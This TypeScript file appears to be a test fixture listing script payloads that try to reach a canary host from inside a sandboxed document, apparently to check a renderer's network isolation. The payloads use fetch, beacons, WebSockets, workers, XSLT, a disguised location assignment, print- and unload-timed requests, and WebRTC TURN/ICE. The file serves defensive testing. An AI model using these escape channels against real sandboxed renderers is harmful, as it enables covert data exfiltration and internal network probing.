/** Payloads of scripts: requests, sockets, workers, windows, and what they do when the document is printed or left. */
import {
  ASKS_LATE,
  frame,
  LEAVES_LATE,
  type Payload,
  payloads,
  type Row,
  script,
  served,
  siteFrame,
  WAIT,
  worker,
} from './payload.ts';

const WS = '"ws://127.0.0.1:{port}/{mark}"';

const NO_POPUPS = 'no new windows: a switch of the browser';
const STAYS = 'the document stays where it is: its navigations are stopped before they are sent';
const SECURE = 'for secure contexts only, which a document of an opaque origin is not';

/** Each row is a name, a script, and the reason if it cannot work. */
const REQUESTS: Row[] = [
  ['fetch', 'fetch("{url}.html").then((r) => r.text()).then((t) => document.body.append(t))'],
  ['fetch no-cors', 'fetch("{url}.html", { mode: "no-cors" })'],
  ['fetch keepalive', 'fetch("{url}.html", { mode: "no-cors", keepalive: true })'],
  ['fetch with a preflight', 'fetch("{url}.html", { method: "PUT", headers: { "x-a": "b" } })'],
  ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", "{url}.html"); x.send()'],
  ['XMLHttpRequest, synchronous', 'const x = new XMLHttpRequest(); x.open("GET", "{url}.html", false); x.send()'],
  ['beacon', 'navigator.sendBeacon("{url}.html", "x")'],
  ['EventSource', 'new EventSource("{url}.events")'],
  ['WebSocket', `new WebSocket(${WS})`],
  ['WebSocket by TLS', 'new WebSocket("wss://{mark}.private.test:{port}/")'],
  ['dynamic import', 'import("{url}.js")'],
  ['Image', 'new Image().src = "{url}.png"'],
  ['Audio', 'new Audio("{url}.html").play()'],
  ['WebAssembly', 'WebAssembly.compileStreaming(fetch("{url}.html"))'],
  ['a timer', 'setTimeout(() => fetch("{url}.html"), 100)'],
  [
    'a frame with new location',
    'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "{url}.html"',
  ],
  [
    'a frame with a Blob',
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([`<img src="{url}.png">`], { type: "text/html" })); document.body.append(f)',
  ],
  [
    'XSLT',
    'const p = new XSLTProcessor(), d = (s) => new DOMParser().parseFromString(s, "text/xml"); p.importStylesheet(d(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="{url}.html"/></xsl:stylesheet>`)); p.transformToFragment(d("<x/>"), document)',
    'XSLT loads from nowhere in an opaque origin',
  ],
  ['window.open', 'open("{url}.html")', NO_POPUPS],
  ['fetchLater', 'fetchLater("{url}.html", { activateAfter: 0 })', SECURE],
  ['WebSocketStream', `new WebSocketStream(${WS})`],
  ['WebTransport', 'new WebTransport("https://127.0.0.1:{own}/")', SECURE],
  ['service worker', `navigator.serviceWorker.register("{url}.js")`, SECURE],
  ['paint worklet', 'CSS.paintWorklet.addModule("{url}.js")', SECURE],
  ['audio worklet', 'new AudioContext().audioWorklet.addModule("{url}.js")', SECURE],
  [
    'reporting',
    'const m = document.createElement("meta"); m.httpEquiv = "content-security-policy"; m.content = "img-src \'none\'; report-uri {url}.html"; document.head.append(m); new Image().src = "{site}/image.png"',
    'a policy in the markup reports nothing, by its specification',
  ],
  [
    'credential management',
    'navigator.credentials.get({ identity: { providers: [{ configURL: "{url}.html", clientId: "x" }] } })',
    SECURE,
  ],
  ['shared storage', 'sharedStorage.createWorklet("{url}.js")', SECURE],
  ['background fetch', 'navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch("x", ["{url}.html"]))', SECURE],
  [
    'payment',
    'new PaymentRequest([{ supportedMethods: "{url}.html" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
    SECURE,
  ],
];

const REQUESTS_ALONE: Row[] = [
  ['innerHTML', 'document.body.innerHTML += `<img src="{url}.png">`'],
  ['location', 'location = "{url}.html"', STAYS],
  ['location, disguised', 'self["loca" + "tion"] = "{url}.html"', LEAVES_LATE],
  [
    'location of the top, from a frame',
    'document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>top.location = \'{url}.html\'</scr" + "ipt>" }))',
    STAYS,
  ],
];

const WORKERS: Row[] = [
  ['fetch', worker('fetch("{url}.html")')],
  ['XMLHttpRequest', worker('const x = new XMLHttpRequest(); x.open("GET", "{url}.html", false); x.send()')],
  ['WebSocket', worker(`new WebSocket(${WS})`)],
  ['EventSource', worker('new EventSource("{url}.events")')],
  ['importScripts', worker('importScripts("{url}.js")')],
  ['dynamic import', worker('import("{url}.js")')],
  ['a worker in a worker', worker('new Worker(URL.createObjectURL(new Blob([\'fetch("{url}.html")\'])))')],
  ['a module of data:', script(`new Worker('data:text/javascript,import "{url}.js"', { type: "module" })`)],
  ['of the canary', script('new Worker("{url}.js")'), 'a worker has to be of the same origin'],
  [
    'SharedWorker of data:',
    script(`new SharedWorker('data:text/javascript,fetch("{url}.html")')`),
    'an opaque origin shares no workers',
  ],
  ['SharedWorker of a site', siteFrame(script(`new SharedWorker("${served('fetch("{url}.html")', 'text/javascript', '')}")`))],
  ['worker of a site', siteFrame(script(`new Worker("${served('fetch("{url}.html")', 'text/javascript', '')}")`))],
];

const SITES: Row[] = [
  ['fetch', siteFrame(script('fetch("{url}.html")'))],
  ['WebSocket', siteFrame(script(`new WebSocket(${WS})`))],
  ['without a scheme', siteFrame('<img src="//127.0.0.1:{port}/{mark}.png">')],
  ['with backslashes', siteFrame('<img src="\\\\127.0.0.1:{port}\\{mark}.png">')],
  ['location', siteFrame(script('location = "{url}.html"'))],
  ['form', siteFrame('<form method="post" action="{url}.html"></form><script>document.forms[0].submit()</script>')],
  ['document.domain', siteFrame(script('try { document.domain = "localhost" } catch {} fetch("{url}.html")'))],
];

const TIMES: Row[] = [
  ['at load', script(`onload = () => { fetch("{url}.html"); ${WAIT} }`)],
  ['before print', script(`onbeforeprint = () => { fetch("{url}.html"); ${WAIT} }`)],
  ['before print, a socket', script(`onbeforeprint = () => { new WebSocket(${WS}); ${WAIT} }`)],
  [
    'before print, a stylesheet',
    script(
      `onbeforeprint = () => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "{url}.css" })); ${WAIT} }`,
    ),
  ],
  [
    'before print, by media query',
    script('matchMedia("print").addEventListener("change", () => fetch("{url}.html"))'),
    'documents are loaded as print: the query never changes',
  ],
  ['after print', script(`onafterprint = () => { fetch("{url}.html"); ${WAIT} }`), ASKS_LATE],
  [
    'when the document is left',
    script('onpagehide = () => navigator.sendBeacon("{url}.html")'),
    'the page is left after the reply, when its proxy listener is closed',
  ],
  [
    'a timer after the reply',
    script('setInterval(() => new Image().src = "{url}.png?" + Math.random(), 5000)'),
    'the proxy listener is closed when the reply is sent',
  ],
];

const LEAVING: Row[] = [
  [
    'a frame that is removed',
    frame(
      script(
        'onpagehide = () => navigator.sendBeacon("{url}.html"); onload = () => parent.document.querySelector("iframe").remove()',
      ),
    ),
  ],
  [
    'a frame that is removed, keepalive',
    frame(
      script(
        'onpagehide = () => fetch("{url}.html", { keepalive: true }); onload = () => parent.document.querySelector("iframe").remove()',
      ),
    ),
  ],
];

const peer = (servers: string) =>
  script(
    `const p = new RTCPeerConnection({ iceServers: [${servers}] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  );
const turn = (url: string) => peer(`{ urls: "${url}", username: "u", credential: "p" }`);
const candidate = (line: string) =>
  script(
    `(async () => { const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]; a.createDataChannel("x"); await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription); await a.addIceCandidate({ candidate: "${line}", sdpMid: "0" }) })()`,
  );
const NO_DATAGRAMS = 'WebRTC sends no datagrams: a switch of the browser';

const PEERS: Row[] = [
  ['STUN', peer('{ urls: "stun:127.0.0.1:{own}" }'), NO_DATAGRAMS],
  ['STUN by name', peer('{ urls: "stun:{mark}.private.test:{own}" }'), NO_DATAGRAMS],
  ['TURN by UDP', turn('turn:127.0.0.1:{own}?transport=udp'), NO_DATAGRAMS],
  ['TURN by TCP', turn('turn:127.0.0.1:{own}?transport=tcp')],
  ['TURN by TCP, by name', turn('turn:{mark}.private.test:{own}?transport=tcp')],
  ['TURN by TLS', turn('turns:127.0.0.1:{own}?transport=tcp')],
  ['a candidate by UDP', candidate('candidate:1 1 udp 2113937151 127.0.0.1 {own} typ host'), NO_DATAGRAMS],
  ['a candidate by TCP', candidate('candidate:1 1 tcp 1518280447 127.0.0.1 {own} typ host tcptype passive')],
  ['a candidate by name', candidate('candidate:1 1 udp 2113937151 {mark}.private.test {own} typ host'), NO_DATAGRAMS],
];

function inScript([name, source, reason]: Row): Row {
  return [name, script(source), reason];
}

export const scriptPayloads: Payload[] = [
  ...payloads('script', REQUESTS.map(inScript), { late: true }),
  ...payloads('script', REQUESTS_ALONE.map(inScript), { late: true, alone: true }),
  ...payloads('worker', WORKERS, { late: true }),
  ...payloads('from the allowed site', SITES, { late: true }),
  ...payloads('time', TIMES, { alone: true }),
  ...payloads('time', LEAVING, { late: true }),
  ...payloads('WebRTC', PEERS, { late: true }),
];
